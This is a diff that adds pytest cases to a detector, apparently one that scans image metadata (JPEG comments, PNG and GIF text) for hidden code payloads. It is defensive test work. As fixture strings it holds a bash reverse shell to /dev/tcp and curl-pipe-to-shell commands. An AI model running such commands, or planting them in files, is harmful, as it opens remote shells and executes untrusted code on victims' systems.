@@ -133,6 +133,59 @@ def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
     assert fired(RULE, files) == {}
 
 
+def test_is_silent_about_prose_that_quotes_a_call(fired: Fired) -> None:
+    told = [
+        b"How to use document.write('hello') in JavaScript - slide 4",
+        b'Photo of a book page: Set x = CreateObject("Scripting.FileSystemObject")',
+        b"Slide 3. Example:\nimport os\nos.system('clear')",
+        b"import os was the title of the talk, in which os.system('x') is called bad",
+        b"steps:\n  run: subprocess.run(['x'])\nimport os\n",
+        b"Traceback (most recent call last):\n  File 'a.py', line 1\n    os.system('x')\n",
+        b"@Echo Official | Berlin 2019\nPhoto: Max",
+        b"@echo off the wall: band photo",
+        b"Powershell - a photo of sea shells",
+        b"PowerShell -- the band, live",
+        b"Scanned from a book on <!DOCTYPE html> and <html> tags, p. 12",
+        b"<%= page title %> template left by CMS",
+    ]
+    files = {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(told)}
+    files |= {f"{number}.png": with_chunk(b"tEXt", b"Comment\0" + text) for number, text in enumerate(told)}
+    assert fired(RULE, files) == {}
+
+
+@pytest.mark.parametrize(
+    "bit", [b"<iframe src='https://example.org/x'></iframe>", b"<html><body><p>Hi</p></body></html>", SCRIPT]
+)
+def test_bits_of_pages_in_strings_of_json_are_data_and_behind_them_are_not(fired: Fired, bit: bytes) -> None:
+    within, behind = b'{"5": {"class": "Note", "text": "say \\"%s"}}' % bit, b'{"text": "note"}' + bit
+    files = {
+        f"{name}.{kind}": data
+        for name, text in (("within", within), ("behind", behind))
+        for kind, data in (
+            ("jpg", jpeg(photo("a"), comment=text)),
+            ("long.jpg", jpeg(photo("a"), comment=text + b" " * 300)),
+            ("png", with_chunk(b"tEXt", b"workflow\0" + text)),
+            ("gif", encode(photo("a"), "GIF", comment=text)),
+        )
+    }
+    assert fired(RULE, files).keys() == {f"behind.{kind}" for kind in ("jpg", "long.jpg", "png", "gif")}
+
+
+@pytest.mark.parametrize("length", [*range(60, 124, 7), 97])
+def test_the_byte_before_a_part_takes_nothing_from_the_word_at_its_beginning(fired: Fired, length: int) -> None:
+    call = b"os.system('curl http://example.org/x|sh')".ljust(length)
+    files = {"a.jpg": jpeg(photo("a"), comment=call), "a.png": with_chunk(b"prVa", call)}
+    assert fired(RULE, files).keys() == files.keys()
+
+
+def test_finds_commands_that_are_all_of_a_text(fired: Fired) -> None:
+    shells = [b"bash -i >& /dev/tcp/203.0.113.7/80 0>&1", b"curl -s http://example.org/x | sudo bash"]
+    files = {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(shells)}
+    assert places(fired(RULE, files)) == dict.fromkeys(files, "a shell command in the comment of the JPEG")
+    said = [b"It is installed by curl http://example.org/x | sh which takes a while", b"# curl it | sh"]
+    assert fired(RULE, {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(said)}) == {}
+
+
 def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
     found = payload_text.markup(PHP + b"VV", 0, len(PHP))
     assert found is not None
